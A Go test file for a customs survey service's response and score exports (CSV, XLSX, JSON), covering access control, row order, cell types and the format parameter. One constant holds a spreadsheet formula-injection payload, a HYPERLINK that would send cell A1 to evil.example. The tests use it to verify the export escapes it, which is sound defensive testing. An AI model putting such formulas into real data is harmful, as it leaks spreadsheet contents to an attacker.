package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/customs-survey/surveyd/internal/dbtest"
)

const exportPath = "/api/v1/campaigns/customs-2023/responses"

// exportColumns are the columns of the responses export of
// customs_annual.json: three fixed, then every question in order.
var exportColumns = []string{"response_id", "administration", "submitted_at",
	"awareness_level", "ees_perf", "ees_union_law", "ees_cooperation", "ees_innovation",
	"used_outputs", "why_not", "why_not_other", "support_satisfaction", "networking_contacts", "staff_trained", "comments"}

// exportTitles are the question texts of customs_annual.json in English,
// its default language: the workbook's first row without labels.
var exportTitles = map[string]string{
	"awareness_level":      "How would you describe the level of awareness of the Customs programme among the staff of your administration?",
	"ees_perf":             "To what extent did new common components of the EES improve your operational performance?",
	"ees_union_law":        "To what extent did new common components of the EES contribute to a coherent implementation of Union customs law?",
	"ees_cooperation":      "To what extent did new common components of the EES strengthen operational cooperation with other customs administrations?",
	"ees_innovation":       "To what extent did new common components of the EES help your administration innovate?",
	"used_outputs":         "Did your administration use a working practice, guideline or recommendation produced by the programme during the year?",
	"why_not":              "Why did your administration not use any of the programme's outputs?",
	"why_not_other":        "Please describe the other reason.",
	"support_satisfaction": "How satisfied are you with the IT support services, from 1 (not at all) to 5 (very satisfied)?",
	"networking_contacts":  "How often do you contact officials of other administrations you met through the programme?",
	"staff_trained":        "How many officials of your administration took part in programme training this year?",
	"comments":             "Do you have any other comments on the programme?",
}

// titleRow is the workbook's first row over columns: each question's text
// from titles, nothing over the other columns.
func titleRow(columns []string, titles map[string]string) []string {
	row := make([]string, len(columns))
	for i, col := range columns {
		row[i] = titles[col]
	}
	return row
}

const injection = `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`

// exportWorld submits three responses, a minute apart: FR, then BE's second
// respondent (later amended, then edited again without submitting), then
// BE's first, with a multi-choice answer, text that a spreadsheet would run
// as a formula, and a hidden question left out. It returns the response ids
// by respondent.
func exportWorld(e *env) map[string]string {
	e.t.Helper()
	e.world()
	e.submit(e.tokens["resp_fr"], "customs-2023", with(fullAnswers(), "comments", nil, "staff_trained", 3.5))
	e.advance(time.Minute)
	e.submit(e.tokens["resp_be2"], "customs-2023", with(fullAnswers(), "ees_perf", "full", "comments", "first"))
	e.advance(time.Minute)
	e.submit(e.tokens["resp_be"], "customs-2023", with(fullAnswers(), "used_outputs", "no",
		"why_not", []string{"other", "no_outputs_yet"}, "why_not_other", "-1 budget", "comments", injection))
	e.advance(time.Minute)
	// The amendment is submitted: it is what counts.
	e.submit(e.tokens["resp_be2"], "customs-2023", with(fullAnswers(), "ees_perf", "none", "comments", "amended"))
	e.advance(time.Minute)
	// A pending edit is not exported.
	e.must(200, "PUT", responsePath, e.tokens["resp_be2"], map[string]any{"answers": with(fullAnswers(), "comments", "pending")})
	ids := map[string]string{}
	for _, who := range []string{"resp_be", "resp_be2", "resp_fr"} {
		ids[who] = e.must(200, "GET", responsePath, e.tokens[who], nil)["id"].(string)
	}
	return ids
}

// exportRow is an expected row of the export, by column; submitted_at is
// checked separately.
type exportRow map[string]string

func wantRows(ids map[string]string) []exportRow {
	base := exportRow{"awareness_level": "basic", "ees_perf": "large", "ees_union_law": "full", "ees_cooperation": "moderate",
		"ees_innovation": "little", "used_outputs": "yes", "why_not": "", "why_not_other": "", "support_satisfaction": "4",
		"networking_contacts": "frequently", "staff_trained": "12", "comments": "Useful programme."}
	row := func(who, adm string, kv ...string) exportRow {
		r := exportRow{"response_id": ids[who], "administration": adm}
		for k, v := range base {
			r[k] = v
		}
		for i := 0; i+1 < len(kv); i += 2 {
			r[kv[i]] = kv[i+1]
		}
		return r
	}
	return []exportRow{
		row("resp_be", "BE", "used_outputs", "no", "why_not", "no_outputs_yet;other", "why_not_other", "'-1 budget",
			"comments", "'"+injection),
		// resp_be2's amendment counts.
		row("resp_be2", "BE", "ees_perf", "none", "comments", "amended"),
		row("resp_fr", "FR", "staff_trained", "3.5", "comments", ""),
	}
}

// exportOrder puts rows, and the respondents they belong to, in the order
// of the export: by administration, then response id.
func exportOrder(rows []exportRow, who []string) ([]exportRow, []string) {
	rows, who = slices.Clone(rows), slices.Clone(who)
	idx := make([]int, len(rows))
	for i := range idx {
		idx[i] = i
	}
	slices.SortFunc(idx, func(a, b int) int {
		return strings.Compare(rows[a]["administration"]+" "+rows[a]["response_id"], rows[b]["administration"]+" "+rows[b]["response_id"])
	})
	outRows, outWho := make([]exportRow, len(rows)), make([]string, len(who))
	for i, j := range idx {
		outRows[i], outWho[i] = rows[j], who[j]
	}
	return outRows, outWho
}

// submittedAt is each respondent's latest submission time, from their own
// response.
func submittedAt(t *testing.T, e *env) map[string]time.Time {
	t.Helper()
	out := map[string]time.Time{}
	for _, who := range []string{"resp_be", "resp_be2", "resp_fr"} {
		at, err := time.Parse(time.RFC3339Nano, e.must(200, "GET", responsePath, e.tokens[who], nil)["submitted_at"].(string))
		if err != nil {
			t.Fatal(err)
		}
		out[who] = at
	}
	return out
}

func checkDownload(t *testing.T, res result, contentType, filename string) {
	t.Helper()
	if res.Status != 200 {
		t.Fatalf("status %d: %s", res.Status, res.Body)
	}
	if got := res.Header.Get("Content-Type"); got != contentType {
		t.Errorf("Content-Type %q, want %q", got, contentType)
	}
	if got, want := res.Header.Get("Content-Disposition"), `attachment; filename="`+filename+`"`; got != want {
		t.Errorf("Content-Disposition %q, want %q", got, want)
	}
}

// checkRecords compares exported records (header first) with the wanted
// rows; cmpTime compares the submitted_at cell with the response's time.
func checkRecords(t *testing.T, records [][]string, want []exportRow, who []string, cmpTime func(cell, who string) bool) {
	t.Helper()
	if len(records) == 0 || !slices.Equal(records[0], exportColumns) {
		t.Fatalf("header %v, want %v", records[0], exportColumns)
	}
	if len(records)-1 != len(want) {
		t.Fatalf("%d rows, want %d: %v", len(records)-1, len(want), records[1:])
	}
	for i, w := range want {
		rec := records[i+1]
		for len(rec) < len(exportColumns) {
			rec = append(rec, "") // readers drop trailing empty cells
		}
		for j, col := range exportColumns {
			if col == "submitted_at" {
				if !cmpTime(rec[j], who[i]) {
					t.Errorf("row %d submitted_at %q, want %s's latest submission", i+1, rec[j], who[i])
				}
				continue
			}
			if rec[j] != w[col] {
				t.Errorf("row %d %s = %q, want %q", i+1, col, rec[j], w[col])
			}
		}
	}
}

func TestExportResponses(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, url string) {
		e := newEnv(t, url)
		ids := exportWorld(e)
		times := submittedAt(t, e)
		all := wantRows(ids)
		order := []string{"resp_be", "resp_be2", "resp_fr"}
		exact := func(cell, who string) bool {
			// RFC 3339 in UTC with microseconds, of fixed width.
			at, err := time.Parse(time.RFC3339Nano, cell)
			return err == nil && at.Equal(times[who].Truncate(time.Microsecond)) &&
				len(cell) == len("2006-01-02T15:04:05.000000Z") && strings.HasSuffix(cell, "Z")
		}

		tests := []struct {
			name, token string
			want        []exportRow
			who         []string
		}{
			{"admin gets every administration", "admin", all, order},
			{"a coordinator gets their own administration", "coord_be", all[:2], order[:2]},
		}
		for _, tt := range tests {
			tt.want, tt.who = exportOrder(tt.want, tt.who)
			t.Run(tt.name+"/csv", func(t *testing.T) {
				res := e.request("GET", exportPath+"?format=csv", e.tokens[tt.token], nil)
				checkDownload(t, res, "text/csv; charset=utf-8", "customs-2023-responses.csv")
				records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
				if err != nil {
					t.Fatalf("not CSV: %v\n%s", err, res.Body)
				}
				checkRecords(t, records, tt.want, tt.who, exact)
			})

			t.Run(tt.name+"/xlsx", func(t *testing.T) {
				res := e.request("GET", exportPath+"?format=xlsx", e.tokens[tt.token], nil)
				checkDownload(t, res, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "customs-2023-responses.xlsx")
				f, err := excelize.OpenReader(bytes.NewReader(res.Body))
				if err != nil {
					t.Fatalf("not a workbook: %v", err)
				}
				defer f.Close()
				if got := f.GetSheetList(); !slices.Equal(got, []string{"Responses"}) {
					t.Fatalf("sheets %v", got)
				}
				rows, err := f.GetRows("Responses")
				if err != nil {
					t.Fatal(err)
				}
				// The question texts in English (the default language)
				// come above the column names.
				if len(rows) == 0 || !slices.Equal(rows[0], titleRow(exportColumns, exportTitles)) {
					t.Fatalf("first row %q, want the question texts", rows[:min(1, len(rows))])
				}
				// submitted_at is a date cell shown to the second.
				toSecond := func(cell, who string) bool {
					return cell == times[who].UTC().Format("2006-01-02T15:04:05Z")
				}
				checkRecords(t, rows[1:], tt.want, tt.who, toSecond)
				for i := range tt.want {
					row := i + 3
					for _, cell := range []string{"L", "N"} { // support_satisfaction, staff_trained
						ref := cell + string(rune('0'+row))
						if typ, _ := f.GetCellType("Responses", ref); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
							t.Errorf("%s is of type %v, want a number", ref, typ)
						}
					}
					ref := "O" + string(rune('0'+row))
					if formula, _ := f.GetCellFormula("Responses", ref); formula != "" {
						t.Errorf("%s is formula %q", ref, formula)
					}
				}
			})

			t.Run(tt.name+"/json", func(t *testing.T) {
				res := e.request("GET", exportPath+"?format=json", e.tokens[tt.token], nil)
				checkDownload(t, res, "application/json; charset=utf-8", "customs-2023-responses.json")
				// Flat elements, as docs/api.md's columns: the three fixed
				// members, then one per question.
				var elements []map[string]any
				if err := json.Unmarshal(res.Body, &elements); err != nil {
					t.Fatalf("not a JSON array: %v\n%s", err, res.Body)
				}
				type element struct {
					ResponseID, Administration string
					SubmittedAt                time.Time
					Answers                    map[string]any
				}
				var got []element
				for _, el := range elements {
					at, _ := time.Parse(time.RFC3339Nano, fmt.Sprint(el["submitted_at"]))
					g := element{ResponseID: fmt.Sprint(el["response_id"]), Administration: fmt.Sprint(el["administration"]),
						SubmittedAt: at, Answers: map[string]any{}}
					for k, v := range el {
						if k != "response_id" && k != "administration" && k != "submitted_at" {
							g.Answers[k] = v
						}
					}
					got = append(got, g)
				}
				if len(got) != len(tt.want) {
					t.Fatalf("%d elements, want %d", len(got), len(tt.want))
				}
				for i, g := range got {
					w := tt.want[i]
					if g.ResponseID != w["response_id"] || g.Administration != w["administration"] ||
						!g.SubmittedAt.Equal(times[tt.who[i]].Truncate(time.Microsecond)) {
						t.Errorf("element %d: %s %s %s, want %s %s %s", i, g.ResponseID, g.Administration, g.SubmittedAt,
							w["response_id"], w["administration"], times[tt.who[i]])
					}
					if len(g.Answers) != len(exportColumns)-3 {
						t.Errorf("element %d has %d answers, want one per question: %v", i, len(g.Answers), g.Answers)
					}
				}
				var be map[string]any // resp_be's
				for i, g := range got {
					if tt.who[i] == "resp_be" {
						be = g.Answers
					}
				}
				checks := map[string]any{
					"why_not": []any{"no_outputs_yet", "other"}, "why_not_other": "-1 budget", "comments": injection,
					"support_satisfaction": float64(4), "staff_trained": float64(12), "ees_perf": "large",
				}
				for k, v := range checks {
					gotJSON, _ := json.Marshal(be[k])
					wantJSON, _ := json.Marshal(v)
					if string(gotJSON) != string(wantJSON) {
						t.Errorf("answers.%s = %s, want %s (verbatim in JSON)", k, gotJSON, wantJSON)
					}
				}
				for i, g := range got {
					if v, ok := g.Answers["why_not"]; tt.who[i] != "resp_be" && (!ok || v != nil) {
						t.Errorf("an unanswered question is %v (present %v), want null", v, ok)
					}
				}
				if !bytes.Contains(res.Body, []byte(`"staff_trained":12,`)) {
					t.Errorf("numbers are not written as submitted: %s", res.Body)
				}
			})
		}
	})
}

func TestExportResponsesAccess(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, url string) {
		e := newEnv(t, url)
		e.world()
		tests := []struct {
			name, token, path string
			status            int
		}{
			{"another administration's coordinator", "coord_de", exportPath + "?format=csv", 404},
			{"another administration's coordinator, json", "coord_de", exportPath + "?format=json", 404},
			{"respondents may not export", "resp_be", exportPath + "?format=csv", 403},
			{"anonymous", "", exportPath, 401},
			{"unknown campaign", "admin", "/api/v1/campaigns/nope/responses?format=csv", 404},
			{"unknown format", "admin", exportPath + "?format=pdf", 422},
			{"unknown format, coordinator", "coord_be", exportPath + "?format=xls", 422},
			{"json by default", "admin", exportPath, 200},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				res := e.request("GET", tt.path, e.tokens[tt.token], nil)
				if res.Status != tt.status {
					t.Fatalf("status %d, want %d: %s", res.Status, tt.status, res.Body)
				}
				if tt.status >= 400 && res.Header.Get("Content-Disposition") != "" {
					t.Errorf("a problem is sent as an attachment: %q", res.Header.Get("Content-Disposition"))
				}
			})
		}

		// No submission yet: the header alone, and an empty array.
		res := e.request("GET", exportPath+"?format=csv", e.tokens["admin"], nil)
		if records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll(); err != nil || len(records) != 1 || !slices.Equal(records[0], exportColumns) {
			t.Errorf("empty CSV export: %v %q", err, res.Body)
		}
		res = e.request("GET", exportPath+"?format=json", e.tokens["admin"], nil)
		var elems []any
		if err := json.Unmarshal(res.Body, &elems); err != nil || elems == nil || len(elems) != 0 {
			t.Errorf("empty JSON export: %v %q", err, res.Body)
		}
		res = e.request("GET", exportPath+"?format=xlsx", e.tokens["admin"], nil)
		f, err := excelize.OpenReader(bytes.NewReader(res.Body))
		if err != nil {
			t.Fatalf("empty XLSX export: %v", err)
		}
		defer f.Close()
		if rows, _ := f.GetRows("Responses"); len(rows) != 2 || !slices.Equal(rows[0], titleRow(exportColumns, exportTitles)) ||
			!slices.Equal(rows[1], exportColumns) {
			t.Errorf("empty XLSX export: %q, want the question texts and the column names", rows)
		}
	})
}

func TestScoresExports(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, url string) {
		e := newEnv(t, url)
		exportWorld(e)
		scoresPath := "/api/v1/campaigns/customs-2023/scores"

		res := e.request("GET", scoresPath+"?format=csv", e.tokens["admin"], nil)
		checkDownload(t, res, "text/csv; charset=utf-8", "customs-2023-scores.csv")
		records, err := csv.NewReader(bytes.NewReader(res.Body)).ReadAll()
		if err != nil {
			t.Fatalf("not CSV: %v\n%s", err, res.Body)
		}
		if records[0][0] != "campaign" || records[0][4] != "level" || records[0][7] != "value" {
			t.Fatalf("header %v", records[0])
		}
		// One row per indicator (10) and breakdown row: OP 3.1 and RES
		// 3.2.1 by 4 and 6 options, RES 2.2.6 contacts by 6 options and 2
		// administrations, EES overall by 4 questions and 2 administrations.
		if got, want := len(records)-1, 10+4+6+6+2+4+2; got != want {
			t.Errorf("%d rows, want %d", got, want)
		}
		byLevel := map[string][]string{}
		for _, r := range records[1:] {
			byLevel[r[2]+"|"+r[4]] = r
		}
		// RES 3.2.1: BE (75 + 0)/2 = 37.5, FR 75: (37.5 + 75)/2 = 56.25.
		if r := byLevel["RES 3.2.1|Total"]; r == nil || r[7] != "56.25" || r[8] != "2" {
			t.Errorf("RES 3.2.1 total: %v", r)
		}
		// Administrations of 2 and 1 responses are below min_cell_size 5.
		if r := byLevel["EES overall|Administration: BE"]; r == nil || r[7] != "" || r[slices.Index(records[0], "suppressed")] != "true" {
			t.Errorf("EES overall BE: %v", r)
		}

		res = e.request("GET", scoresPath+"?format=xlsx", e.tokens["admin"], nil)
		checkDownload(t, res, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "customs-2023-scores.xlsx")
		f, err := excelize.OpenReader(bytes.NewReader(res.Body))
		if err != nil {
			t.Fatalf("not a workbook: %v", err)
		}
		defer f.Close()
		if got := f.GetSheetList(); !slices.Equal(got, []string{"Annex 4", "Breakdowns", "Coverage"}) {
			t.Errorf("sheets %v", got)
		}
		rows, _ := f.GetRows("Breakdowns")
		if len(rows) != len(records) {
			t.Errorf("Breakdowns has %d rows, the CSV %d", len(rows), len(records))
		}
		if got, _ := f.GetCellValue("Annex 4", "C1"); got != "2023 data" {
			t.Errorf("Annex 4 C1 = %q", got)
		}

		for _, tt := range []struct{ token, format string }{{"admin", "pdf"}, {"coord_be", "csv"}} {
			res := e.request("GET", scoresPath+"?format="+tt.format, e.tokens[tt.token], nil)
			if want := map[string]int{"admin": 422, "coord_be": 403}[tt.token]; res.Status != want {
				t.Errorf("%s format=%s: status %d, want %d", tt.token, tt.format, res.Status, want)
			}
		}
	})
}

// TestExportFormatParameter holds ?format= of both exports: absent or
// empty means JSON, anything but json, csv or xlsx is a 422 naming the
// parameter, checked before the campaign is looked up.
func TestExportFormatParameter(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, url string) {
		e := newEnv(t, url)
		exportWorld(e)
		for _, path := range []string{exportPath, "/api/v1/campaigns/customs-2023/scores"} {
			tests := []struct {
				query       string
				status      int
				contentType string
			}{
				{"", 200, "application/json; charset=utf-8"},
				{"?format=", 200, "application/json; charset=utf-8"},
				{"?format=json", 200, "application/json; charset=utf-8"},
				{"?format=csv", 200, "text/csv; charset=utf-8"},
				{"?format=xlsx", 200, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
				{"?format=pdf", 422, "application/problem+json"},
				{"?format=JSON", 422, "application/problem+json"},
				{"?format=%20", 422, "application/problem+json"},
			}
			for _, tt := range tests {
				t.Run(path+tt.query, func(t *testing.T) {
					res := e.request("GET", path+tt.query, e.tokens["admin"], nil)
					if res.Status != tt.status || res.Header.Get("Content-Type") != tt.contentType {
						t.Fatalf("%d %q, want %d %q: %s", res.Status, res.Header.Get("Content-Type"), tt.status, tt.contentType, res.Body)
					}
					if tt.status == 422 {
						if got := problemFields(t, res); !slices.Equal(got, []string{"format:not_allowed"}) {
							t.Errorf("errors %v, want format:not_allowed", got)
						}
						return
					}
					if tt.contentType == "application/json; charset=utf-8" && !json.Valid(res.Body) {
						t.Errorf("not JSON: %s", res.Body)
					}
				})
			}
			// The format is checked before the campaign.
			unknown := strings.Replace(path, "customs-2023", "nope", 1) + "?format=pdf"
			if res := e.request("GET", unknown, e.tokens["admin"], nil); res.Status != 422 {
				t.Errorf("GET %s: %d, want 422", unknown, res.Status)
			}
		}
	})
}
